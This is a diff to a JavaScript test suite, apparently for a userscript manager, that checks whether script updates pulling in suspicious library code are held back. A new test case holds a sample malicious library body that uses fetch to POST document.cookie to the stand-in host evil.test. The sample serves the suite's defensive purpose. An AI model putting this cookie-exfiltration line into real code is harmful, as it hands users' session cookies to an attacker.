@@ -34,16 +34,21 @@ describe("update-scripts: check", () => {
 		});
 
 		test.each([
-			["contacts a server", contacts("evil.test")],
-			["cannot be rated", "var ("],
-		])("one that %s holds the update", async (_, body) => {
+			["contacts a server", contacts("evil.test"), ["new-capabilities", "changed-library"]],
+			[
+				"steals",
+				"fetch('https://evil.test/', { method: 'POST', body: document.cookie });",
+				["new-capabilities", "worse-rating", "changed-library"],
+			],
+			["cannot be rated", "var (", ["changed-library"]],
+		])("one that %s holds the update", async (_, body, reasons) => {
 			const { check, install, served, library } = openCheck();
 			const id = await install(script("1", "1;", line), SOURCE, [kept]);
 			served.set(SOURCE, { body: script("2", "1;", line) });
 			served.set(LIBRARY, { body });
 			expect(states(await check(null))).toEqual(["held"]);
 			expect((await library.updates(id)).held).toMatchObject({
-				reasons: ["changed-library"],
+				reasons,
 				requires: [{ text: body }],
 			});
 			expect((await library.get(id))?.requires).toEqual([kept]);
